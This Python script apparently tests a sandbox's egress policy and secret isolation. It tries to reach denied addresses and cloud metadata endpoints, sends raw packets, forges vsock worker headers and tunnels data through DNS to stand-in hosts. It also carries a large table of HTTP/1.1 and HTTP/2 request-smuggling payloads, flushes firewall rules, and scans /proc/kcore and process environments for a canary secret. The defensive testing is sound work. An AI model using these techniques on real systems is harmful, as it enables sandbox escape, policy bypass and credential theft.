"""Runs as root in a sandbox, and tries to reach what its policy denies and to see a secret that it must not have. A
table that grows: each attempt returns what it reached, or nothing; an OSError is nothing. What arrives elsewhere, the
test's canaries outside count. Prints JSON: how many attempts there were, which found something open, whether the search
for the secret works, and what it found. Arguments: JSON, see `main`."""
import concurrent.futures
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import threading

PATIENCE_S = 5  # where nobody answers
QUIET_S = 2  # after it, an answer is complete
BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
PREFIX = b"sk-canary-"  # of the test's secret
SECRET = re.compile(PREFIX + b"[0-9A-Za-z]{24}")
WINDOW = 4 << 20
VM_PORTS = [*range(0, 30), 80, 443, 1023, 1024, *range(1026, 1040), 2375, 5000, 8080, 9999, 49983, 2 ** 16, 2 ** 31, 2 ** 32 - 2]

ATTEMPTS = []
received, said = [], threading.Lock()
told = {}


def add(name, fn, *arguments):
    ATTEMPTS.append((name, fn, arguments))


def keep(data):
    """What came from elsewhere is searched for the secret."""
    with said:
        received.append(data)
    return data


def reach(name, port):
    return socket.create_connection((name, port), PATIENCE_S)


def read_some(s, size=65536):
    """What comes until the end, or for a while."""
    data = b""
    try:
        while len(data) < size and (piece := s.recv(size)):
            data += piece
    except OSError:
        pass
    return keep(data)


# --- addresses ---

def connects(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE_S)
        s.connect((address, port))
        return f"connected to {s.getpeername()}"


def datagram_answers(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.settimeout(1)
        s.sendto(b"canary", (address, port))
        return keep(s.recv(100))


def spellings(address):
    """The same address in other words, as the C library reads them."""
    a, b, c, d = (int(x) for x in address.split("."))
    whole = a << 24 | b << 16 | c << 8 | d
    return [str(whole), hex(whole), oct(whole).replace("0o", "0"), f"{a}.{b << 16 | c << 8 | d}", f"{a}.{b}.{c << 8 | d}",
            ".".join(f"0{x:o}" for x in (a, b, c, d)), ".".join(hex(x) for x in (a, b, c, d)),
            ".".join(f"000{x:o}" for x in (a, b, c, d))]


def embedded(address):
    """IPv4 in IPv6: mapped, compatible, NAT64, 6to4, ISATAP, Teredo."""
    hexed = socket.inet_aton(address).hex()
    high, low = hexed[:4], hexed[4:]
    inverse = f"{int(hexed, 16) ^ 0xffffffff:08x}"
    return [f"::ffff:{address}", f"::{address}", f"64:ff9b::{high}:{low}", f"2002:{high}:{low}::1", f"fe80::5efe:{address}",
            f"2001:0:{high}:{low}::{inverse[:4]}:{inverse[4:]}", f"64:ff9b:1::{high}:{low}"]


METADATA = ["169.254.169.254", "169.254.170.2", "169.254.170.23", "100.100.100.200", "168.63.129.16", "192.0.0.192"]
NOWHERE = ["10.77.0.1", "10.77.0.3", "10.0.2.2", "10.0.2.3", "192.168.0.1", "172.16.0.1", "172.17.0.1", "100.64.0.1",
           "198.18.77.77", "198.19.255.255", "224.0.0.1", "239.255.255.250", "255.255.255.255",
           "240.0.0.1", "192.0.2.1", "198.51.100.1", "203.0.113.1"]


def add_addresses(t):
    for address in [*t["here"], *t["denied"], *METADATA, *NOWHERE]:
        for port in (t["canary"], 80, 22):
            add(f"tcp {address}:{port}", connects, address, port)
        for port in (t["canary"], 123):
            add(f"udp {address}:{port}", datagram_answers, address, port)
    for address in [t["here"][0], "127.0.0.1", METADATA[0], t["denied"][0]]:
        for text in spellings(address):
            add(f"tcp {text} as {address}", connects, text, t["canary"])
        for text in embedded(address):
            add(f"tcp6 {text}", connects, text, t["canary"], socket.AF_INET6)
    for address in ("fd00:ec2::254", "fe80::1%eth0", "ff02::1%eth0", "2001:4860:4860::8888"):
        add(f"tcp6 {address}", connects, address, t["canary"], socket.AF_INET6)


# --- packets ---

def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def ip_packet(source, to, protocol, payload, options=b""):
    head = struct.pack(">BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), 7, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to)) + options
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def syn(source, to, port):
    part = struct.pack(">HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack(">HH", 6, len(part))
    return part[:16] + struct.pack(">H", checksum(pseudo + part)) + part[18:]


def datagram_of(port, data=b"canary"):
    return struct.pack(">HHHH", 40000, port, 8 + len(data), 0) + data


def send_raw(to, protocol, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(ip_packet("10.77.0.2", to, protocol, payload), (to, 0))


def send_frame(device, to, payload, protocol):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, 0x0800))
        for target in (b"\xff" * 6, b"\2" * 6, bytes(6)):
            s.send(target + b"\2\0\0\0\0\1" + b"\x08\0" + ip_packet("10.77.0.2", to, protocol, payload))


def send_with(to, port, level, option, value):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE_S)
        s.setsockopt(level, option, value)
        s.connect((to, port))
        return "connected"


def protocol_answers(to, port, kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as s:
        s.settimeout(1)
        s.connect((to, port))
        s.send(b"canary")
        return keep(s.recv(100))


def add_packets(t):
    for to in [t["here"][0], t["denied"][0], t["denied"][1]]:
        add(f"raw syn {to}", send_raw, to, 6, syn("10.77.0.2", to, t["canary"]))
        add(f"raw udp {to}", send_raw, to, 17, datagram_of(t["canary"]))
        for protocol in (1, 4, 41, 47, 50, 132):
            add(f"raw protocol {protocol} {to}", send_raw, to, protocol, b"\x08\0\xf7\xff\0\0\0\0")
        for device in ("eth0", "lo"):
            add(f"frame {device} {to}", send_frame, device, to, syn("10.77.0.2", to, t["canary"]), 6)
            add(f"frame udp {device} {to}", send_frame, device, to, datagram_of(t["canary"]), 17)
        add(f"bound to eth0 {to}", send_with, to, t["canary"], socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        add(f"marked {to}", send_with, to, t["canary"], socket.SOL_SOCKET, 36, struct.pack("i", 1))
        route = b"\x83\x07\x04" + socket.inet_aton(to) + b"\0"
        add(f"source route {to}", send_with, to, t["canary"], socket.IPPROTO_IP, 4, route)
        add(f"sctp {to}", protocol_answers, to, t["canary"], socket.SOCK_STREAM, 132)
        add(f"udplite {to}", protocol_answers, to, t["canary"], socket.SOCK_DGRAM, 136)
        add(f"port of the relay {to}", connects, to, 65533)


# --- vsock, and the protocol of the worker ---

def vsock(cid=2, port=1025, kind=socket.SOCK_STREAM):
    s = socket.socket(socket.AF_VSOCK, kind)
    s.settimeout(PATIENCE_S)
    try:
        s.connect((cid, port))
    except BaseException:
        s.close()
        raise
    return s


def vsock_connects(cid, port, kind):
    with vsock(cid, port, kind):
        return "connected"


def endpoint(address, port):
    return socket.inet_aton(address) + struct.pack("<H", port)


def header(kind, address="0.0.0.0", port=0, name=b"x", version=1, zero=0, length=None, source="10.77.0.2"):
    return struct.pack("<BBBB", version, kind, len(name) if length is None else length, zero) + endpoint(address, port) + \
        endpoint(source, 40000) + struct.pack("<I", 1) + name


def stream_answers(*messages):
    """Verdict 0 is a way out."""
    with vsock() as s:
        s.settimeout(QUIET_S)
        for data in messages:
            s.sendall(data)
        head = keep(s.recv(8))
        return f"verdict 0: {head}" if len(head) >= 2 and head[1] == 0 else None


def record(address, port, data):
    return struct.pack("<HH", len(data), 0) + endpoint("10.77.0.2", 40000) + endpoint(address, port) + data


def forged_datagrams(*records):
    with vsock() as s:
        s.sendall(header(2))
        s.settimeout(1)
        keep(s.recv(8))
        for one in records:
            s.sendall(one)
        return keep(s.recv(100))


def add_vsock(_):
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        for port in VM_PORTS:
            add(f"vsock 2:{port} {kind.name}", vsock_connects, 2, port, kind)
    for cid in (0, 4, 5, 100, 2 ** 32 - 1):
        for port in (1024, 1025):
            add(f"vsock {cid}:{port}", vsock_connects, cid, port, socket.SOCK_STREAM)


def add_forged(t):
    for address in [*t["here"], *t["denied"], "127.0.0.1", "0.0.0.0", *METADATA]:
        add(f"forged header {address}", stream_answers, header(1, address, t["canary"]))
        add(f"forged datagram {address}", forged_datagrams, record(address, t["canary"], b"canary"))
    to = (t["here"][0], t["canary"])
    for name, data in {
            "version 0": header(1, *to, version=0), "version 2": header(1, *to, version=2), "kind 0": header(0, *to),
            "kind 3": header(3, *to), "kind 255": header(255, *to), "padding": header(1, *to, zero=1),
            "a long name": header(1, *to, name=b"n" * 255), "a name that lies": header(1, *to, length=200),
            "a source of the host": header(1, *to, source="127.0.0.1"), "two headers": header(1, *to) * 2,
            "a policy": b'{"policy":{"version":1,"generation":99,"layers":[{"rules":[],"default":"allow"}]}}\n' + header(1, *to),
            "names": b'{"names":{"good.example":"198.18.0.1"}}\n', "HTTP": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
            "zeros": bytes(4096), "ones": b"\xff" * 4096, "half of a header": header(1, *to)[:9]}.items():
        add(f"forged: {name}", stream_answers, data)
    for name, data in {"port 0": record(to[0], 0, b"x"), "a length that lies": struct.pack("<HH", 65535, 0) + bytes(40),
                       "broadcast": record("255.255.255.255", t["canary"], b"canary"), "none": b""}.items():
        add(f"forged datagram: {name}", forged_datagrams, data)


# --- names ---

def question(name, kind, extra=b""):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b"."))
    return struct.pack(">HHHHHH", 4711, 0x100, 1, 0, 0, 1 if extra else 0) + labels + b"\0" + struct.pack(">HH", kind, 1) + extra


def answers(message):
    count, = struct.unpack(">H", message[6:8]) if len(message) >= 8 else (0,)
    return f"{count} records" if count else None


def asks(server, port, name, kind, extra=b""):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE_S)
        s.sendto(question(name, kind, extra), (server, port))
        return answers(keep(s.recv(4096)))


def asks_by_tcp(server, name, kind):
    with socket.create_connection((server, 53), PATIENCE_S) as s:
        message = question(name, kind)
        s.sendall(struct.pack(">H", len(message)) + message)
        return answers(read_some(s, 4096)[2:])


def name_connects(name, port):
    for *_, address in socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM):
        return connects(*address)
    return None


def sibling_answers(name, port):
    """Who may not reach another sandbox may be told so: 403."""
    with reach(name, port) as s:
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        got = read_some(s)
        return None if got.startswith(b"HTTP/1.1 403") else f"answered {got[:100]}"


def add_names(t):
    data = "00112233445566778899aabbccddeeff"
    option = b"\0" + struct.pack(">HHIH", 41, 4096, 0, 36) + struct.pack(">HH", 65001, 32) + b"canary" * 5 + b"--"
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 99, 255, 65399):
        add(f"tunnel type {kind}", asks, "8.8.8.8", 53, f"{data}.{kind}.tunnel.example", kind)
        add(f"tunnel below a good name {kind}", asks, t["resolver"], 53, f"{data}.{kind}.good.example", kind)
        if kind != 1:
            add(f"another type of a good name {kind}", asks, "8.8.8.8", 53, "good.example", kind)
    for n in range(8):
        add(f"tunnel by tcp {n}", asks_by_tcp, t["resolver"], f"{data}.{n}.tunnel.example", 16)
        add(f"tunnel with an option {n}", asks, t["resolver"], 53, f"{n}.tunnel.example", 1, option)
    for port in (5353, 853, 443, 5300):
        add(f"resolver at {port}", asks, t["resolver"], port, "bad.example", 1)
        add(f"resolver at tcp {port}", connects, t["resolver"], port)
        add(f"private resolver at {port}", asks, t["here"][1], port, "bad.example", 1)
    others = [f"8080-{t['other']}.mayfly.internal", f"{t['other']}.mayfly.internal", t["other"], f"8080-{t['other']}.test",
              "other.mayfly.internal", "host.mayfly.internal", "localhost.mayfly.internal"]
    for name in [*others, *t["lying"], "host.docker.internal", "gateway.docker.internal", "metadata.internal", "instance-data",
                 "kubernetes.default.svc", "api.test.tunnel.example", "www.api.test", "xgood.example", "good.example.bad.example"]:
        for port in (t["canary"], 8080, 80):
            add(f"name {name}:{port}", sibling_answers if name in others else name_connects, name, port)
    for port in (22, 443, 1025, t["canary"]):
        add(f"the worker's own name at {port}", name_connects, "mayfly.internal", port)


# --- TLS to a name ---

def hello(name, kind="named"):
    """A client's first flight."""
    context, out = ssl.create_default_context(), ssl.MemoryBIO()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    client = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    data = out.read()
    if kind == "in pieces":  # records of few bytes
        body = data[5:]
        return b"".join(data[:3] + struct.pack(">H", len(p)) + p for p in (body[i:i + 9] for i in range(0, len(body), 9)))
    if kind == "after an alert":
        return b"\x15\x03\x01\0\2\1\0" + data
    if kind == "of SSL 2":
        return b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + bytes(37)
    if kind == "of another version":
        return data[:1] + b"\x03\x04" + data[3:]
    return data


def hello_passes(data, piece):
    with reach("good.example", 443) as s:
        for i in range(0, len(data), piece):
            s.sendall(data[i:i + piece])
        back = keep(s.recv(65536))
        return "it came back from the server" if back[:1] == data[:1] and data.startswith(back[:6]) else None


def second_hello_passes(second, between):
    """Behind a good one, as if the server had asked for it."""
    first = hello("good.example") + between
    with reach("good.example", 443) as s:
        s.sendall(first + second)
        back = b""
        while len(back) <= len(first):
            part = keep(s.recv(65536))
            if not part:
                return None
            back += part
        return "it came back from the server" if back[len(first)] == second[0] else None


def add_hellos(_):
    for name in ("bad.example", "api.test", "good.example.bad.example", "www.good.example", "xgood.example", None, "good.exampl"):
        for kind in ("named", "in pieces"):
            for piece in (65536, 100):
                add(f"hello for {name}, {kind}, {piece}", hello_passes, hello(name, kind), piece)
    for kind in ("after an alert", "of SSL 2", "of another version"):
        add(f"hello {kind}", hello_passes, hello("bad.example", kind), 65536)
    for between in (b"", b"\x14\3\3\0\1\1", b"\x14\3\3\0\1\1" * 3, b"\x15\3\3\0\2\1\x5a"):
        for kind in ("named", "in pieces"):
            add(f"a second hello, {kind}, behind {between.hex() or 'the first'}", second_hello_passes,
                hello("bad.example", kind), between)


# --- HTTP/1.1 to an intercepted host ---

INSIDE = b"GET /smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n"
BEHIND = INSIDE.replace(b"api.test", b"bad.example")  # where it may be read as the next request
N = b"%d" % len(INSIDE)
HOST = b"Host: api.test\r\n"
POST = b"POST /a HTTP/1.1\r\n" + HOST
HTTP1 = {
    "another host": b"GET /smuggled HTTP/1.1\r\nHost: bad.example\r\n\r\n",
    "another port": b"GET /smuggled HTTP/1.1\r\nHost: api.test:8443\r\n\r\n",
    "no host": b"GET /smuggled HTTP/1.1\r\n\r\n",
    "an empty host": b"GET /smuggled HTTP/1.1\r\nHost:\r\n\r\n",
    "two hosts": b"GET /smuggled HTTP/1.1\r\nHost: api.test\r\nHost: bad.example\r\n\r\n",
    "the same host twice": b"GET /smuggled HTTP/1.1\r\n" + HOST * 2 + b"\r\n",
    "a user in the host": b"GET /smuggled HTTP/1.1\r\nHost: api.test@bad.example\r\n\r\n",
    "a host with a blank": b"GET /smuggled HTTP/1.1\r\nHost: api.test bad.example\r\n\r\n",
    "a host with a comma": b"GET /smuggled HTTP/1.1\r\nHost: api.test, bad.example\r\n\r\n",
    "an absolute target": b"GET http://bad.example/smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
    "an absolute target of TLS": b"GET https://bad.example/smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
    "connect": b"CONNECT bad.example:443 HTTP/1.1\r\nHost: bad.example:443\r\n\r\n" + INSIDE,
    "connect to itself": b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n" + INSIDE,
    "a length and chunks": POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + INSIDE,
    "chunks and a length": POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + INSIDE,
    "chunked twice": POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + INSIDE,
    "chunked, identity": POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + INSIDE,
    "identity, chunked": POST + b"Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n" + INSIDE,
    "xchunked": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + INSIDE,
    "gzip": POST + b"Transfer-Encoding: gzip\r\n\r\n0\r\n\r\n" + INSIDE,
    "chunked behind a tab": POST + b"Transfer-Encoding:\x0bchunked\r\nContent-Length: " + N + b"\r\n\r\n" + INSIDE,
    "a blank before the colon": POST + b"Transfer-Encoding : chunked\r\nContent-Length: " + N + b"\r\n\r\n0\r\n\r\n" + INSIDE,
    "a quoted coding": POST + b'Transfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n' + INSIDE,
    "two lengths": POST + b"Content-Length: 0\r\nContent-Length: " + N + b"\r\n\r\n" + INSIDE,
    "a list of lengths": POST + b"Content-Length: 0, " + N + b"\r\n\r\n" + INSIDE,
    "a length with a sign": POST + b"Content-Length: +0\r\n\r\n" + INSIDE,
    "a negative length": POST + b"Content-Length: -1\r\n\r\n" + INSIDE,
    "a length in hexadecimal": POST + b"Content-Length: 0x0\r\n\r\n" + INSIDE,
    "a huge length": POST + b"Content-Length: 18446744073709551616\r\n\r\n" + INSIDE,
    "a length and a blank": POST + b"Content-Length: 0 0\r\n\r\n" + INSIDE,
    "a folded line": POST + b"X: a\r\n Content-Length: 0\r\nContent-Length: " + N + b"\r\n\r\n" + INSIDE,
    "a folded coding": POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + INSIDE,
    "bare line feeds": b"POST /a HTTP/1.1\nHost: api.test\nContent-Length: 0\n\n" + INSIDE,
    "a bare carriage return": POST + b"X: a\rContent-Length: 0\r\nContent-Length: " + N + b"\r\n\r\n" + INSIDE,
    "a zero byte": POST + b"X: a\0b\r\nContent-Length: 0\r\n\r\n" + INSIDE,
    "a name with a zero byte": POST + b"Content\0-Length: 0\r\nContent-Length: " + N + b"\r\n\r\n" + INSIDE,
    "a name with a blank": POST + b"X Y: 0\r\n\r\n" + INSIDE,
    "no name": POST + b": 0\r\n\r\n" + INSIDE,
    "a line without a colon": POST + b"GET /smuggled HTTP/1.1\r\n\r\n" + INSIDE,
    "a chunk size that overflows": POST + b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n" + INSIDE,
    "a negative chunk size": POST + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + INSIDE,
    "a chunk size with 0x": POST + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + INSIDE,
    "a chunk's bare line feed": POST + b"Transfer-Encoding: chunked\r\n\r\n1\nX\n0\n\n" + INSIDE,
    "a chunk's extension with a line feed": POST + b"Transfer-Encoding: chunked\r\n\r\n1;x\n\r\nX\r\n0\r\n\r\n" + INSIDE,
    "a chunk without its end": POST + b"Transfer-Encoding: chunked\r\n\r\n1\r\nXX0\r\n\r\n" + INSIDE,
    "a trailer that is a host": POST + b"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: bad.example\r\nContent-Length: 9\r\n\r\n",
    "an HTTP/1.0 request": b"GET /smuggled HTTP/1.0\r\n" + HOST + b"\r\n",
    "an HTTP/0.9 request": b"GET /smuggled\r\n\r\n",
    "an HTTP/1.2 request": b"GET /smuggled HTTP/1.2\r\n" + HOST + b"\r\n",
    "a preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
    "h2c": b"GET /a HTTP/1.1\r\n" + HOST + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk"
           b"\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + INSIDE,
    "an upgrade to TCP": b"GET /a HTTP/1.1\r\n" + HOST + b"Connection: Upgrade\r\nUpgrade: tcp\r\n\r\n" + BEHIND,
    "a websocket without a key": b"GET /a HTTP/1.1\r\n" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n" + BEHIND,
    "a websocket that is posted": POST + b"Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 0\r\n\r\n" + BEHIND,
    "two blanks": b"GET  /smuggled  HTTP/1.1\r\n" + HOST + b"\r\n",
    "a blank in the target": b"GET /a /smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
    "a line feed in the target": b"GET /a\n/smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
    "a blank before the method": b" GET /smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
    "a next request for another host": b"GET /a HTTP/1.1\r\n" + HOST + b"\r\nGET /smuggled HTTP/1.1\r\nHost: bad.example\r\n\r\n",
    "behind the close": b"GET /a HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n" + INSIDE,
    "a body of GET": b"GET /a HTTP/1.1\r\n" + HOST + b"Content-Length: " + N + b"\r\n\r\n" + INSIDE,
    "too many fields": b"GET /smuggled HTTP/1.1\r\n" + HOST + b"X: y\r\n" * 300 + b"\r\n",
    "too large a field": b"GET /smuggled HTTP/1.1\r\n" + HOST + b"X: " + b"y" * 70000 + b"\r\n\r\n",
    "an unknown method": b"SMUGGLE /smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
    "trace": b"TRACE /trace HTTP/1.1\r\n" + HOST + b"\r\n",
}
REFLECTED = ["/reflect", "/chunks", "/header", "/trickle", "/error", "/reason", "/gzip", "/early"]


def tls(name, protocols=("http/1.1",)):
    context = ssl.create_default_context(cafile=BUNDLE)
    context.set_alpn_protocols(list(protocols))
    return context.wrap_socket(reach(name, 443), server_hostname=name)


def sends(data, name="api.test"):
    with tls(name) as s:
        s.sendall(data)
        s.settimeout(QUIET_S)
        read_some(s, 1 << 20)


def sends_plainly(port, data):
    with reach("api.test", port) as s:
        s.sendall(data)
        s.settimeout(QUIET_S)
        read_some(s)


def add_http1(_):
    key = os.environ.get("KEY", "").encode()
    for name, data in HTTP1.items():
        add(f"http1: {name}", sends, data)
    for path in REFLECTED:
        for field in (b"", b"X-Key: %s\r\n" % key, b"X-Key: a%sb%s\r\n" % (key, key), b"Authorization: mine\r\n",
                      b"Connection: authorization, x-key\r\nX-Key: %s\r\n" % key, b"Accept-Encoding: gzip\r\n"):
            add(f"reflected by {path}: {field[:14].decode()}", sends, b"GET %s HTTP/1.1\r\n%s%s\r\n" % (path.encode(), HOST, field))
    plain = b"GET /plain HTTP/1.1\r\n%sAuthorization: Bearer %s\r\n\r\n" % (HOST, key)
    for port in (80, 443, 8080, 8443):
        add(f"plain HTTP to port {port}", sends_plainly, port, plain)
    add("its placeholder to another host", sends, plain.replace(b"api.test", b"plain.test"), "plain.test")
    add("its placeholder in the target", sends, b"GET /%s?%s HTTP/1.1\r\n%s\r\n" % (key, key, HOST))
    add("its placeholder in a body", sends, POST + b"Content-Length: %d\r\n\r\n%s" % (len(key), key))


# --- HTTP/2 ---

def h2_string(data):
    return (bytes([len(data)]) if len(data) < 127 else b"\x7f" + varint(len(data) - 127)) + data


def varint(n):
    out = b""
    while n >= 128:
        out += bytes([n % 128 + 128])
        n //= 128
    return out + bytes([n])


def frame(kind, flags, stream, data):
    return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data


def request2(fields, body=None, stream=1):
    block = b"".join(b"\0" + h2_string(k) + h2_string(v) for k, v in fields)
    data = frame(1, 4 if body is not None else 5, stream, block)
    return data + (frame(0, 1, stream, body) if body is not None else b"")


def head2(method=b"GET", path=b"/smuggled", authority=b"api2.test", scheme=b"https", more=()):
    return [(b":method", method), (b":scheme", scheme), (b":authority", authority), (b":path", path), *more]


HTTP2 = {
    "another authority": request2(head2(authority=b"bad.example")),
    "another port": request2(head2(authority=b"api2.test:8443")),
    "a user": request2(head2(authority=b"api2.test@bad.example")),
    "no authority": request2([f for f in head2() if f[0] != b":authority"]),
    "only a host, another": request2([f for f in head2() if f[0] != b":authority"] + [(b"host", b"bad.example")]),
    "another host beside it": request2(head2(more=[(b"host", b"bad.example")])),
    "two authorities": request2(head2() + [(b":authority", b"bad.example")]),
    "two paths": request2([*head2(), (b":path", b"/smuggled")]),
    "a pseudo field behind": request2([(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"api2.test"), (b"x", b"y"),
                                       (b":path", b"/smuggled")]),
    "a line end in a value": request2(head2(path=b"/smuggled", more=[(b"x", b"a\r\nhost: bad.example")])),
    "a line end in a name": request2(head2(more=[(b"x: y\r\nhost", b"bad.example")])),
    "a line end in the path": request2(head2(path=b"/a HTTP/1.1\r\nhost: bad.example\r\n\r\nGET /smuggled")),
    "a line end in the method": request2(head2(method=b"GET /smuggled HTTP/1.1\r\nx: y\r\n\r\nGET")),
    "a blank in the path": request2(head2(path=b"/a /smuggled")),
    "an absolute path": request2(head2(path=b"https://bad.example/smuggled")),
    "no path": request2(head2(path=b"")),
    "another scheme": request2(head2(scheme=b"http")),
    "upper case": request2(head2(more=[(b"Host", b"bad.example")])),
    "a coding": request2(head2(b"POST", more=[(b"transfer-encoding", b"chunked")]), b"0\r\n\r\n" + INSIDE),
    "a connection": request2(head2(more=[(b"connection", b"upgrade"), (b"upgrade", b"h2c")])),
    "a length that is too short": request2(head2(b"POST", more=[(b"content-length", b"1")]), INSIDE),
    "two lengths": request2(head2(b"POST", more=[(b"content-length", b"1"), (b"content-length", b"2")]), b"xx"),
    "connect": request2([(b":method", b"CONNECT"), (b":authority", b"bad.example:443")]),
    "extended connect": request2(head2(b"CONNECT", more=()) + [(b":protocol", b"websocket")]),
    "te": request2(head2(more=[(b"te", b"gzip")])),
}


def sends2(data):
    with tls("api2.test", ("h2",)) as s:
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + data)
        s.settimeout(QUIET_S)
        read_some(s)


def add_http2(_):
    for name, data in HTTP2.items():
        add(f"http2: {name}", sends2, data)
    for stream, path in enumerate((b"/reflect", b"/again"), 1):
        add(f"http2: {path.decode()}", sends2, request2(head2(path=path), stream=2 * stream - 1))


# --- the secret in the sandbox ---

def search(data):
    """As re would find them, but quicker."""
    found, at = set(), data.find(PREFIX)
    while at >= 0:
        if m := SECRET.match(data, at):
            found.add(m.group(0))
        at = data.find(PREFIX, at + 1)
    return found


def segments(core):
    """(offset in the file, bytes) of physical memory, which kcore's headers name."""
    head = os.pread(core, 64, 0)
    at, count = struct.unpack_from("<Q", head, 32)[0], struct.unpack_from("<H", head, 56)[0]
    for n in range(count):
        kind, _, offset, _, physical, size = struct.unpack_from("<IIQQQQ", os.pread(core, 56, at + 56 * n))
        if kind == 1 and physical < 1 << 40:
            yield offset, size


def in_memory():
    found, core = set(), os.open("/proc/kcore", os.O_RDONLY)
    for offset, size in segments(core):
        for at in range(0, size, WINDOW):
            found |= search(os.pread(core, min(WINDOW + 64, size - at), offset + at))
    os.close(core)
    return found


def in_files():
    found = set()
    tops = ["/etc", "/run", "/root", "/tmp", "/home", "/var/log", "/dev/shm", "/opt"]
    paths = [os.path.join(top, n) for t in tops for top, _, names in os.walk(t) for n in names]
    paths += [f"/proc/{pid}/{n}" for pid in os.listdir("/proc") if pid.isdigit() for n in ("environ", "cmdline")]
    for path in paths:
        try:
            with open(path, "rb") as f:
                found |= search(f.read(WINDOW))
        except OSError:
            pass
    return found


# --- a sandbox that takes its own network down ---

DOWN = ["nft flush ruleset", "ip route flush table main", "ip link set eth0 down", "ip link del eth0",
        "ip link add eth0 type dummy", "ip addr add 10.99.0.77/24 dev eth0", "ip link set eth0 up",
        "ip route add default via {} dev eth0 onlink"]


def take_down(t):
    for command in DOWN:
        subprocess.run(["sh", "-c", command.format(t["here"][0])], check=False, capture_output=True)  # not all are there
    for address in [*t["here"], *t["denied"]]:
        yield f"taken down: tcp {address}", connects, (address, t["canary"])
        yield f"taken down: udp {address}", datagram_answers, (address, t["canary"])


# --- running them ---

def try_one(one):
    """What it found open, or why the attempt itself does not work; None: neither."""
    name, fn, arguments = one
    try:
        reached = fn(*arguments)
    except (OSError, EOFError, ssl.SSLError, OverflowError):
        return None
    except Exception as e:  # pylint: disable=broad-except
        return f"{name}: broken: {e!r}"
    return f"{name}: {reached!r}" if reached else None


def try_all():
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        return list(pool.map(try_one, ATTEMPTS))


def main():
    """{"here": addresses of the host, "denied": addresses that are, "canary": a port, "resolver": an address, "other": the
    id of another sandbox, "lying": allowed names whose addresses must not be dialled}"""
    told.update(json.loads(sys.argv[1]))
    for family in (add_addresses, add_packets, add_names, add_hellos, add_http1, add_http2, add_vsock, add_forged):
        family(told)
    socket.setdefaulttimeout(PATIENCE_S)
    found = try_all()
    last = list(map(try_one, take_down(told)))
    mark = PREFIX + b"mark" * 6  # what the searches must find
    with open("/dev/shm/mark", "wb") as f:
        f.write(mark)
    seen = {"memory": in_memory(), "files": in_files(), "answers": set().union(*map(search, received))}
    json.dump({"attempts": len(ATTEMPTS) + len(last), "open": [one for one in found + last if one],
               "control": mark in seen["memory"] and mark in seen["files"],
               "secrets": {where: len(what - {mark}) for where, what in seen.items()}}, sys.stdout)


if __name__ == "__main__":
    main()
